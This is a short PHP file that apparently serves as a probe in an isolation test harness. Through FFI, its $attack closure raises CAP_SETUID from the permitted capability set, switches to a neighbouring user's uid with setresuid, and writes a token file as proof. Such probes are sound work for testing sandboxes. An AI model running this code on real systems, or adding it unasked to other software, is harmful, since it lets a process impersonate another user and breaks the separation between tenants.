<?php
$attack = static function (object $given): mixed {
    // capget(2), capset(2): version 3, two words of each set; bit 7 is CAP_SETUID.
    $libc = FFI::cdef('int capget(void *, void *); int capset(void *, void *);
        int setresuid(unsigned, unsigned, unsigned); int setresgid(unsigned, unsigned, unsigned);');
    $header = $libc->new('unsigned[2]');
    $header[0] = 0x20080522;
    $sets = $libc->new('unsigned[6]');
    $libc->capget(FFI::addr($header), FFI::addr($sets));
    if (($sets[1] & 1 << 7) === 0) {
        throw new RuntimeException('the permitted set has no CAP_SETUID');
    }
    $sets[0] |= $sets[1];
    $given->must($libc->capset(FFI::addr($header), FFI::addr($sets)), 'capset');
    $uid = $given->neighbour_uid;
    $libc->setresgid($uid, $uid, $uid);
    $libc->setresuid($uid, $uid, $uid);
    file_put_contents("{$given->drop}/raised_capability", $given->token);
    return $uid;
};
